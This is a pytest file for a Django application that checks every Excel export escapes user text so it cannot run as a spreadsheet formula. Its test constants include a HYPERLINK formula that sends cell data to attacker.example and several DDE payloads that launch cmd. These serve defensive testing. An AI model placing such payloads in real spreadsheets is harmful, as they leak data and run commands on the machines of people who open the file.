"""Every Excel export writes people's text as inert text, never as a formula.

A record whose text fields start with "=", "+", "-" or "@" is seeded in every app that exports,
each export is downloaded through its page, and every cell of every sheet is checked. A second
test keeps the list honest: every ``.xlsx`` route is exported here, and no module builds a
workbook or writes CSV outside ``neuguong.core.exports``.
"""

import io
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from neuguong.accounts import services as account_services
from neuguong.accounts.permissions import Role
from neuguong.ballots.tests.helpers import counted_campaign
from neuguong.catalogues import services as catalogue_services
from neuguong.core import exports as xlsx
from neuguong.core.actors import SYSTEM
from neuguong.orgs.tests.factories import PersonFactory, UserFactory, grant
from neuguong.reception import services as reception
from neuguong.reception.tests.conftest import client_for, days_ago, receive
from neuguong.study import services as study

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'
PLUS, MINUS, AT = "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
NAME = '=HYPERLINK("//x.vn","An")'  # person names are split into 40-character parts
SRC = Path(__file__).resolve().parents[2]


@pytest.fixture
def exports(province, commune, unit_admin):
    """The URL of every export, each over records holding formula-like text."""
    catalogue_services.catalogues_load(acting_user=SYSTEM)
    officer = UserFactory(username="officer_x", person=PersonFactory(full_name="Hồ Thị Tiếp", unit=commune))
    grant(officer, Role.RECEPTION_STAFF, commune)
    PersonFactory(full_name=NAME, unit=commune, phone="+84 912 345 678", email="")
    receive(officer, commune, subject=FORMULA, petitioner_name=AT, petitioner_address=MINUS, content=PLUS,
            received_on=days_ago(90))  # overdue: in the backlog sheet of the report too
    session = reception.session_create(unit_id=commune.pk, title=FORMULA, held_on=days_ago(0), acting_user=officer)
    reception.visit_record(session_id=session.pk, acting_user=officer,
                           visitor={"full_name": AT, "address": MINUS, "group_size": 1, "representatives": PLUS},
                           kinds=["complaint"], matter={"subject": FORMULA, "content": PLUS,
                                                        "previously_resolved_by": MINUS})
    campaign = counted_campaign(commune, unit_admin, names=(NAME, AT), online=1, paper=3, title=FORMULA,
                                post=MINUS)
    system_admin = UserFactory(username="root_x", person=PersonFactory(full_name="Đỗ Văn Quản", unit=province))
    grant(system_admin, Role.SYSTEM_ADMIN, province)
    account_services.grant_role(user_id=officer.pk, role=Role.RECEPTION_STAFF, unit_id=province.pk,
                                acting_user=system_admin, reason=FORMULA)
    theme = study.theme_create(unit_id=commune.pk, year=days_ago(0).year, level="provincial", title=FORMULA,
                               acting_user=unit_admin)
    plan = study.plan_create(unit_id=commune.pk, theme_id=theme.pk, title=PLUS, acting_user=unit_admin)
    study.item_add(plan_id=plan.pk, content=FORMULA, owner_name=AT, due_on=days_ago(0), acting_user=unit_admin)
    return {
        "study:plans": (unit_admin, "/study/plans/?export=xlsx"),
        "study:plan_items_export": (unit_admin, f"/study/plans/{plan.pk}/items.xlsx"),
        "accounts:restricted_grants": (system_admin, "/accounts/restricted/?export=xlsx"),
        "orgs:people": (unit_admin, "/people/?export=xlsx"),
        "reception:petitions": (officer, "/reception/petitions/?export=xlsx"),
        "reception:report_export": (officer, f"/reception/reports/export.xlsx?unit={commune.pk}"),
        "reception:register_export": (officer, f"/reception/sessions/{session.pk}/register.xlsx"),
        "ballots:minutes_xlsx": (unit_admin, f"/ballots/{campaign.pk}/minutes.xlsx"),
    }


def _xlsx_routes(resolver: URLResolver, namespace: str = "") -> set[str]:
    names = set()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            names |= _xlsx_routes(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".xlsx"):
            names.add(f"{namespace}{pattern.name}")
    return names


def test_no_export_writes_a_formula_from_peoples_text(exports):
    live = {}
    for name, (user, url) in exports.items():
        response = client_for(user).get(url)
        assert response.status_code == 200 and response["Content-Type"] == xlsx.XLSX_TYPE, name
        workbook = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert any(text.lstrip("'").startswith("=HYPERLINK(") for text in texts), name  # the text is kept
        live[name] = [cell.value for cell in cells if cell.data_type == "f"
                      or (isinstance(cell.value, str) and cell.value.startswith(xlsx.FORMULA_TRIGGERS))]
    assert live == {name: [] for name in exports}


def test_every_xlsx_route_is_checked_and_every_workbook_goes_through_the_helper(exports):
    assert _xlsx_routes(get_resolver()) <= set(exports)
    builders = [path.relative_to(SRC) for path in SRC.rglob("*.py")
                if "tests" not in path.parts and path.relative_to(SRC) != Path("core/exports.py")
                and any(marker in path.read_text() for marker in ("Workbook(", "WriteOnlyCell", "csv.writer"))]
    assert builders == []


@pytest.mark.parametrize("text", [FORMULA, PLUS, MINUS, AT, "\tcmd", "\rcmd"])
def test_formula_like_text_gets_an_apostrophe_and_the_text_type(text):
    sheet = xlsx.add_sheet(xlsx.new_workbook(), "x")
    cell = xlsx.cell(sheet, text)
    assert cell.value == f"'{text}" and cell.data_type == "s"


def test_ordinary_text_numbers_and_dates_are_written_as_they_are():
    sheet = xlsx.add_sheet(xlsx.new_workbook(), "x")
    assert xlsx.cell(sheet, "Nguyễn Văn An").value == "Nguyễn Văn An"
    assert xlsx.cell(sheet, -3).value == -3 and xlsx.cell(sheet, -3).data_type == "n"
    assert xlsx.cell(sheet, days_ago(0)).number_format == xlsx.DATE_FORMAT
